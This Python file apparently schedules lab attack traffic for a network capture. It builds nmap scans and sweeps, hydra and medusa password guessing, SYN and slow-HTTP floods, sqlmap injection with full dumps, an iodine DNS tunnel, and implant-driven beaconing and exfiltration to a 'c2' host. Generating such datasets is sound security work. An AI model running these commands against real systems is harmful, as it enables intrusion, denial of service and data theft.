"""The attack schedule of a day: which tool, from where, at whom, when, how hard.

Every step is one process (or a short chain) of a public tool, started on one
lab host against other lab hosts, bounded by a count of its own and by a time
limit. The rates, lists, targets and start times come from the day's seed.
"""
import random
from dataclasses import dataclass, field
from pathlib import Path

import days

HERE = Path(__file__).resolve().parent
WORDS = "/usr/share/dirb/wordlists/common.txt"
PORTS = ("21-23,25,53,80,110,111,123,135,139,143,161,389,443,445,465,514,587,631,873,993,995,1080,1433,1521,"
         "1723,2049,2181,3000,3128,3306,3389,4444,5000,5060,5432,5601,5900,5985,6379,7001,8000,8008,8080,8081,"
         "8443,8888,9000,9090,9200,9418,10000,11211,27017")


@dataclass
class Step:
    kind: str
    host: str      # where the tool runs
    start: float   # seconds into the capture
    limit: float   # killed after so many seconds
    argv: list
    dst: list      # whom it is aimed at
    files: dict = field(default_factory=dict)  # word lists to write first: name -> lines


class Plan:
    def __init__(self, cfg, run):
        self.cfg, self.run = cfg, Path(run) / "attack"
        self.rng = random.Random(cfg["seed"] * 7919)
        self.steps = []
        self.span = cfg["seconds"]

    def ip(self, host, i=0):
        return days.ip(self.cfg, host, i)

    def outside(self):
        return self.rng.choice(["atk1", "atk2"])

    def bad(self):
        return self.rng.choice(self.cfg["bad"])

    def at(self, last=0.6):
        return self.rng.uniform(8, self.span * last)

    def add(self, kind, host, start, limit, argv, dst, files=None):
        limit = min(limit, self.span - start - 6)
        if kind not in self.cfg["skip"] and limit > 5:
            self.steps.append(Step(kind, host, start, limit, [str(a) for a in argv], dst, files or {}))

    def words(self, n, hit=None):
        """A list of guesses; hit, where given, comes near the end."""
        parts = ["spring", "winter", "admin", "pass", "qwerty", "dragon", "love", "root", "test", "secret"]
        out = [f"{self.rng.choice(parts)}{self.rng.randrange(10000)}" for _ in range(n)]
        if hit:
            out.insert(int(n * 0.95), hit)
        return out

    def build(self):
        for make in (self.scans, self.udp, self.slow_scan, self.sweeps, self.guess_ssh, self.guess_http,
                     self.guess_ftp, self.guess_db, self.slow_http, self.floods, self.web, self.tunnel,
                     self.beacons, self.exfil):
            make()
        return sorted(self.steps, key=lambda s: s.start)

    # Scans. --send-ip makes raw probes pass the host's OUTPUT chain, where they are tagged.

    def nmap(self, *args):
        return ["nmap", "-n", "--send-ip", "-oN", "/dev/null", *args]

    def range(self, n):
        return f"{(lo := self.rng.randrange(1, 1200))}-{lo + n}"

    def scans(self):
        for host in (self.outside(), self.bad()):
            for target in self.rng.sample(["web", "app", "files", "mail", "db"], 2):
                kind, how = self.rng.choice([("scan-syn", ["-sS"]), ("scan-connect", ["-sT"])])
                self.one_scan(kind, how, host, target)
        for kind, how in (("scan-syn", ["-sS"]), ("scan-connect", ["-sT"])):
            self.one_scan(kind, how, self.rng.choice([self.outside(), self.bad()]), self.rng.choice(["web", "files"]))
        if self.rng.random() < 0.7:
            self.one_scan("scan-syn", [self.rng.choice(["-sF", "-sN", "-sX", "-sA"])], self.outside(), "web", 150)

    def one_scan(self, kind, how, host, target, n=None):
        rate = self.rng.choice([20, 40, 80, 150, 400])
        n = n or self.rng.randrange(200, 320)
        extra = []
        if how == ["-sS"] and self.rng.random() < 0.3:
            extra = self.rng.choice([[], ["-sV", "--version-light"], ["-O"]])
        self.add(kind, host, self.at(0.8), 110, self.nmap(
            *how, "-Pn", self.rng.choice(["-T3", "-T4"]), "--max-rate", rate, "--max-retries", self.rng.choice([0, 1]),
            "-p", self.range(n), *extra, self.ip(target)), [self.ip(target)])

    def udp(self):
        for host in (self.outside(), self.bad()):
            target = self.rng.choice(["web", "dns", "files", "mail"])
            self.add("scan-udp", host, self.at(0.7), 120, self.nmap(
                "-sU", "-Pn", "--max-retries", self.rng.choice([0, 1]), "--min-rate", self.rng.choice([5, 10, 30]),
                "--max-rate", self.rng.choice([40, 80]), "--top-ports", self.rng.randrange(130, 260), self.ip(target)),
                [self.ip(target)])

    def slow_scan(self):
        for host in (self.outside(), self.bad()):
            target = self.rng.sample(["web", "app", "files", "mail", "db"], self.rng.choice([1, 2]))
            delay = self.rng.choice([1000, 1400, 2000, 3000])
            self.add("scan-slow", host, self.rng.uniform(5, 40), self.span, self.nmap(
                self.rng.choice(["-sS", "-sT"]), "-Pn", "-T2", "--scan-delay", f"{delay}ms", "--max-scan-delay",
                f"{delay + 300}ms", "--max-retries", 0, "--max-parallelism", 1, "-p",
                self.rng.choice([PORTS + ",1-300", "1-500", "20-450,3000-3200"]), *map(self.ip, target)),
                list(map(self.ip, target)))

    def sweeps(self):
        lan, srv = self.cfg["lan"] + ".0/24", self.cfg["srv"] + ".0/24"
        port = self.rng.choice(["22", "445", "3389", "22,445", "5985"])
        self.add("sweep", self.bad(), self.at(), 90, self.nmap(
            self.rng.choice(["-sS", "-sT"]), "-Pn", "-T4", "--max-retries", 0, "--max-rate",
            self.rng.choice([15, 40, 120]), "-p", port, lan), [lan])
        self.add("sweep", self.bad(), self.at(), 60, [
            "fping", "-q", "-r", "0", "-i", self.rng.choice([10, 30, 80]), "-g", srv], [srv])
        self.add("sweep", self.outside(), self.at(), 90, self.nmap(
            "-sn", "--disable-arp-ping", "-T4", "--max-retries", 0, "--max-rate", self.rng.choice([30, 100]),
            *self.rng.choice([[], ["-PS80,443"], ["-PE"]]), srv), [srv])

    # Guessing.

    def hydra(self, threads, host_ip, service, *how):
        return ["hydra", "-I", "-f", "-t", threads, "-W", "3", *how, host_ip, *service]

    def guess_ssh(self):
        for host, target, n in ((self.outside(), "files", 500), (self.bad(), self.rng.choice(["app", "db"]), 300)):
            user = self.rng.choice(["root", "admin", *self.cfg["users"]])
            f = f"ssh-{host}-{target}.txt"
            argv = self.hydra(self.rng.choice([8, 12, 16]), self.ip(target), ["ssh"], "-l", user, "-P", f)
            if self.rng.random() < 0.3:
                argv = ["medusa", "-h", self.ip(target), "-u", user, "-P", f, "-M", "ssh", "-t", "6"]
            self.add("guess-ssh", host, self.at(0.55), 230, argv, [self.ip(target)],
                     {f: self.words(n, self.cfg["users"].get(user))})

    def guess_http(self):
        user = self.rng.choice(list(self.cfg["users"]))
        f = "basic.txt"
        https = self.rng.random() < 0.4
        self.add("guess-http", self.outside(), self.at(), 180, self.hydra(
            self.rng.choice([2, 4, 8]), self.ip("web"), ["https-get" if https else "http-get", "/admin/"],
            "-l", user, "-P", f), [self.ip("web")], {f: self.words(self.rng.randrange(250, 420))})
        f = "form.txt"
        self.add("guess-http", self.rng.choice([self.outside(), self.bad()]), self.at(), 120, self.hydra(
            self.rng.choice([1, 3, 6]), self.ip("app"),
            ["http-post-form", "/login:user=^USER^&pass=^PASS^:F=Login failed"], "-s", "8080", "-l", user, "-P", f),
            [self.ip("app")], {f: self.words(self.rng.randrange(150, 320), self.cfg["users"][user])})

    def guess_ftp(self):
        for host in (self.outside(), self.bad()):
            f = f"ftp-{host}.txt"
            user = self.rng.choice(["ftp", "backup", *self.cfg["users"]])
            self.add("guess-ftp", host, self.at(), 200, self.hydra(
                self.rng.choice([8, 12, 16]), self.ip("files"), ["ftp"], "-l", user, "-P", f),
                [self.ip("files")], {f: self.words(self.rng.randrange(300, 480))})

    def guess_db(self):
        f = "redis.txt"
        self.add("guess-db", self.bad(), self.at(), 60, self.hydra(
            self.rng.choice([1, 2, 4]), self.ip("db"), ["redis"], "-P", f), [self.ip("db")],
            {f: self.words(self.rng.randrange(150, 260))})
        f = "pg.txt"
        self.add("guess-db", self.bad(), self.at(), 60, self.hydra(
            self.rng.choice([2, 4, 6]), self.ip("db"), ["postgres"], "-l", self.rng.choice(["postgres", "shop"]),
            "-P", f), [self.ip("db")], {f: self.words(self.rng.randrange(150, 300))})

    # Denial of service: small, slow enough for two cores, one target.

    def slow_http(self):
        for mode in self.rng.sample([["-H"], ["-B", "-s", "8192"], ["-X", "-w", "10", "-y", "20", "-n", "5"]], 2):
            self.add("slow-http", self.outside(), self.at(), 100, [
                "slowhttptest", "-c", self.rng.randrange(130, 240), *mode, "-i", self.rng.choice([5, 8, 12]),
                "-r", self.rng.choice([5, 15, 40]), "-x", "24", "-p", "3", "-l", self.rng.randrange(50, 90),
                "-u", f"http://{self.ip('web')}/p/{self.rng.randrange(40)}.html"], [self.ip("web")])

    def floods(self):
        for port, target in self.rng.sample([(80, "web"), (443, "web"), (8080, "app"), (25, "mail")], 2):
            host = self.outside()
            self.add("flood-syn", host, self.at(0.8), 30, [
                "hping3", "-q", "-S", "-p", port, "-s", self.rng.randrange(2000, 50000), "-a",
                self.ip(host, self.rng.randrange(3)), "-c", self.rng.randrange(300, 700),
                "-i", f"u{self.rng.choice([800, 2000, 5000])}", self.ip(target)], [self.ip(target)])
        self.add("flood-http", self.rng.choice([self.outside(), self.bad()]), self.at(0.8), 40, [
            "ab", "-q", "-n", self.rng.randrange(400, 900), "-c", self.rng.choice([10, 30, 60]),
            f"http://{self.ip('web')}/p/{self.rng.randrange(40)}.html"], [self.ip("web")])

    # Web application.

    def web(self):
        lines = [w for w in Path(WORDS).read_text(errors="ignore").split() if w.isascii()]
        n = self.rng.randrange(250, 500)
        short, long = self.rng.sample(lines, n), self.rng.sample(lines, 1800)
        url = f"http://{self.ip('app')}:8080/"
        tool = self.rng.choice([
            ["gobuster", "dir", "-q", "-t", self.rng.choice([1, 4, 8]), "-w", "dir1.txt", "-u", url],
            ["ffuf", "-s", "-t", self.rng.choice([2, 6]), "-w", "dir1.txt", "-u", url + "FUZZ"]])
        self.add("web-dir", self.rng.choice([self.outside(), self.bad()]), self.at(), 90, tool,
                 [self.ip("app")], {"dir1.txt": short})
        site = f"{self.rng.choice(['http', 'https'])}://{self.ip('web')}/"
        tool = self.rng.choice([
            ["gobuster", "dir", "-q", "-k", "-t", 4, "--delay", "30ms", "-w", "dir2.txt", "-u", site],
            ["dirb", site, "dir2.txt", "-S", "-r", "-z", "20"]])
        self.add("web-dir", self.outside(), self.at(), 110, tool, [self.ip("web")], {"dir2.txt": long})
        self.add("web-sql", self.rng.choice([self.outside(), self.bad()]), self.at(0.5), 160, [
            "sqlmap", "--batch", "--flush-session", "--output-dir", "sql",
            "--level", self.rng.choice([1, 2]), "--risk", 2,
            "--threads", self.rng.choice([1, 3]), *self.rng.choice([[], ["--delay", "0.1"], ["--random-agent"]]),
            *self.rng.choice([[], ["--dbms", "sqlite", "--dump-all", "--exclude-sysdbs", "--stop", "12"]]),
            "-u", url + "item?id=7"], [self.ip("app")])
        self.add("web-sql", self.outside(), self.at(0.6), 120, [
            "sqlmap", "--batch", "--flush-session", "--output-dir", "sql2", "--level", 2, "--technique",
            self.rng.choice(["BU", "BEU", "BT"]), "-u", url + "search?q=abc"], [self.ip("app")])

    # Command, control and theft.

    def implant(self, *args):
        return ["python3", HERE / "implant.py", *args]

    def tunnel(self):
        r, dom = self.ip("dns"), self.cfg["tun_domain"]
        for host in self.cfg["bad"][:2]:
            for _ in range(self.rng.choice([1, 2])):
                start, span = self.at(0.75), self.rng.randrange(25, 50)
                self.add("tunnel-dns", host, start, span + 8, [
                    "iodine", "-f", "-r", "-P", "lab", "-T", self.rng.choice(["TXT", "NULL", "CNAME", "SRV"]),
                    "-L", self.rng.choice([0, 1]), "-m", self.rng.choice([120, 300, 700]), "-I", "4", r, dom], [r])
                self.add("tunnel-dns", host, start + 7, span, self.implant(
                    "tunchat", self.cfg["tun_net"] + ".1", span - 2, self.rng.randrange(10**6)), [r])
        self.add("tunnel-dns", self.bad(), self.at(0.6), 150, self.implant(
            "txt", r, self.cfg["txt_domain"], self.rng.randrange(100, 200), self.rng.choice([0.1, 0.4, 0.9]), 140,
            self.rng.randrange(10**6)), [r])

    def beacons(self):
        hosts = self.cfg["bad"] + [self.cfg["bad"][0], "app"]
        for host in hosts:
            how, port = self.rng.choice([("http", 80), ("https", 443), ("tcp", 8443), ("http", 80), ("https", 443)])
            start = self.rng.uniform(5, self.span * 0.3)
            self.add("beacon", host, start, self.span, self.implant(
                "beacon", how, self.ip("c2"), port, self.rng.choice([2.5, 4, 6, 8]), self.rng.choice([0, .1, .25, .5]),
                self.span - start - 8, self.rng.randrange(10**6)), [self.ip("c2")])

    def exfil(self):
        user, word = self.rng.choice(list(self.cfg["users"].items()))
        for host in (self.bad(), self.rng.choice([self.bad(), "files"])):
            how, port, n = self.rng.choice([("http", 80, 140), ("https", 443, 140), ("nc", 8443, 150)])
            self.add("exfil", host, self.at(0.5), 220, self.implant(
                "exfil", how, self.ip("c2"), port, n, self.rng.choice([30_000, 120_000, 300_000]),
                self.rng.choice([0.3, 0.8, 1.2]), 200, self.rng.randrange(10**6)), [self.ip("c2")])
        self.add("exfil", self.bad(), self.at(0.5), 200, self.implant(
            "exfil", "scp", self.ip("c2"), 22, 50, self.rng.choice([100_000, 400_000]), 1.0, 180,
            self.rng.randrange(10**6), user, word), [self.ip("c2")])
